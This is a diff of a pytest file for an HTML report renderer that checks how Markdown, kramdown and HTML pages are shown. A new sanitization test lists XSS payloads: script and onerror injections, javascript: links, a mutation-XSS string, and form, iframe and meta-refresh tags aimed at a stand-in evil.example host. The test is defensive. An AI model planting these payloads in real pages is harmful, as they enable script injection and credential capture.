@@ -1,11 +1,15 @@
-"""A page as the annotated guide of the report: what of its Markdown, kramdown and HTML is shown, and how."""
+"""Pages in the report: shown as they are published, with nothing in them that runs."""
+
+import re
 
 import pytest
 
-from e2e.reports.html.guide import RenderHooks, rendered
-from e2e.reports.html.kramdown import without_lists
-from e2e.reports.html.links import file_name, safe_address
-from e2e.reports.html.tags import attributes
+from e2e.markup.addresses import file_name
+from e2e.markup.kramdown_attributes import without_lists
+from e2e.reports.html.guide import rendered
+from e2e.reports.html.links import safe_address
+from e2e.reports.html.rendering import RenderHooks
+from e2e.tests.support.html_tags import Tags
 
 
 def body(source: str, *blocks: object) -> str:
@@ -23,7 +27,7 @@ def body(source: str, *blocks: object) -> str:
     ("source", "shown"),
     [
         ("1. {: #a} Text\n", "Text"),
-        ('A *word*{: .b title="}"} more\n', "<p>A <em>word</em> more</p>"),
+        ('A *word*{: .b title="\\}"} more\n', "<p>A <em>word</em> more</p>"),
         ("Text\n{: #c .d}\n", "<p>Text</p>"),
         ("## Heading {#own}\n", ">Heading</h2>"),
         ("`{: #code}`\n", "<code>{: #code}</code>"),
@@ -51,19 +55,22 @@ def test_without_lists_keeps_the_rest_of_a_line() -> None:
          '<a href="https://example.org/a?b=1&amp;c" title="T" target="_blank" rel="noopener noreferrer">x</a>'),
         ('<kbd><img src="a/b%20c.png" alt="A" style="max-width: 25px"></kbd>', "<kbd>[picture b c.png 25]</kbd>"),
         ('<kbd><a href="a.png" title="T"><img src="a.png"></a></kbd>', "<kbd>[picture a.png None]</kbd>"),
-        ("<kbd>**bold</kbd>**", "<kbd>**bold</kbd>**"),
+        ("~~old~~ new", "<del>old</del> new"),
+        ("a &amp; \\*b\\* &quot;c&quot;", 'a &amp; *b* "c"'),
         ("a <!-- hidden --> b", "a  b"),
         ("<kbd>open", "<kbd>open</kbd>"),
         ("closed</a>", "<p>closed</p>"),
-        ("[x </a> y](z)</kbd>", '<a href="z">x  y</a></p>'),
+        ("[x </a> y](z)</kbd>", '<a href="z">x </a> y</p>'),
         ("[a <kbd>b](x) c</kbd>", '<a href="x">a <kbd>b</kbd></a> c'),
-        ('<a href="https://a.org/">a [b](https://b.org/) c</a>', ">a b c</a>"),
-        ("<b>bold</b> <br> <div>", "&lt;b&gt;bold&lt;/b&gt; &lt;br&gt; &lt;div&gt;"),
+        ('<a href="https://a.org/">a [b](c.md) d</a>', '>a </a><a href="c.md">b</a> d</p>'),
+        ("<b>bold</b> <br> <u>under", "<p><b>bold</b> <br> <u>under</u></p>"),
+        ("<table><tr><td>a</td></tr></table>", "<td>a</td>"),
+        ("<div>\n<p>a</p>\n</div>", "<div>\n<p>a</p>\n</div>"),
         ("<kbd onclick=alert(1)>x</kbd>", "<kbd>x</kbd>"),
         ("[to a known page](../known.md)", '<a href="#../known.md">'),
     ],
 )  # fmt: skip
-def test_the_tags_of_pages_are_read_and_others_are_text(source: str, shown: str) -> None:
+def test_a_page_is_shown_as_it_is_published(source: str, shown: str) -> None:
     assert shown in body(source + "\n")
 
 
@@ -104,6 +111,46 @@ def test_a_bad_link_stays_readable() -> None:
     )
 
 
-def test_names_and_attributes_of_pages() -> None:
+@pytest.mark.parametrize(
+    "source",
+    [
+        "<script>alert(1)</script>",
+        "<p><script>alert(1)</script></p>",
+        "<svg><script>alert(1)</script></svg>",
+        "<style>* { display: none }</style>",
+        "<iframe src='https://evil.example'></iframe>",
+        "<object data='x'></object><embed src='x'>",
+        "<form action='https://evil.example'><input name=password></form>",
+        "<img src=x onerror=alert(1)>",
+        "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
+        "<p style='position: fixed' onmouseover=alert(1)>x</p>",
+        "<meta http-equiv=refresh content='0; url=https://evil.example'>",
+        "<base href='https://evil.example'><link rel=stylesheet href=x>",
+        "<!--><img src=x onerror=alert(1)>-->",
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
+        "<a href=x title='\"><img src=x onerror=alert(1)>'>y</a>",
+        "<div class='verdict' id='de/lamp/enjoy' data-slot='0'>x</div>",
+        "<p class=block data-slot=x/0>x",
+        "| <a href=x onclick=y>a</a> | <td onclick=z> |\n|--|--|",
+    ],
+)
+def test_nothing_of_a_page_runs_loads_or_looks_like_the_report(source: str) -> None:
+    for tag, attrs in Tags(body(f"x\n\n{source}\n\ny {source} z\n")).found:
+        assert tag in {"p", "span", "a", "div", "code", "table", "tbody", "thead", "tr", "td", "th"}, tag
+        assert attrs.keys() <= {"href", "title", "class"}
+        assert attrs.get("class") in (None, "unlinked")
+        assert attrs.get("href") in (None, "x")
+
+
+def test_a_page_that_cannot_be_read_has_no_place_for_its_blocks() -> None:
+    hooks = RenderHooks("p", str, str, lambda *_: "", lambda _: None)
+    assert rendered("1. {: a b} x\n", [], hooks) == ("", [])
+
+
+def test_headings_have_the_anchors_of_the_published_page() -> None:
+    html = body("# A b\n\n## A b\n\n## C {#own}\n\n## D\n{: #given}\n")
+    assert re.findall(r'id="([^"]*)"', html) == ["p/h/a-b", "p/h/a-b-1", "p/h/own", "p/h/given"]
+
+
+def test_names_of_pictures() -> None:
     assert file_name("../a/B%C3%A4r.png?x#y") == "Bär.png"
-    assert attributes("<a href='x&amp;y' HREF=z title>") == {"href": "x&y", "title": ""}
